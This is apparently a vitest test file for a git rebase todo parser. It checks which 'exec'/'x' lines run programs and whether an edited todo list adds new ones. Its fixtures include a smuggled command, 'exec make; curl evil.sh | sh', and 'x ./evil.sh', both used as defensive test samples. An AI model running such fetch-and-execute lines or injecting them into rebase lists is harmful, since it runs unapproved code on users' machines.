import { expect, test } from "vitest";
import { addsNoProgram, programsInTodo } from "./git-todo.ts";

// oxfmt-ignore
const LISTS: readonly (readonly [todo: string, programs: readonly string[]])[] = [
  ["pick 1a2b first\nfixup -C 3c4d second\nlabel onto\n", []],
  ["# exec make test\npick 1a2b exec the plan\n",           []],
  ["pick 1 a\nexec make test\n",                           ["exec make test"]],
  ["x ./evil.sh",                                          ["x ./evil.sh"]],
  [" \t x\t./evil.sh\r\npick 1 a\r\n",                    ["x\t./evil.sh"]],
  ["executor\nxargs\nx-ray\n",                             []],
];

test.each(LISTS)("%j runs %j", (todo, programs) => {
  expect(programsInTodo(todo)).toEqual(programs);
});

// oxfmt-ignore
const CHANGES: readonly (readonly [before: string, after: string, isHarmless: boolean])[] = [
  ["",                                 "pick 1 a\n",                     true],
  ["pick 1 a\nexec make\nexec make\n", "exec make\n",                   true],
  ["exec make\n",                      "exec make\nexec make\n",        false],
  ["exec make\n",                      "exec make; curl evil.sh | sh\n", false],
  ["pick 1 a\n",                       "pick 1 a\nx evil\n",            false],
];

test.each(CHANGES)("a rebase whose list %j became %j runs nothing new: %s", (before, after, isHarmless) => {
  expect(addsNoProgram(before, after)).toBe(isHarmless);
});
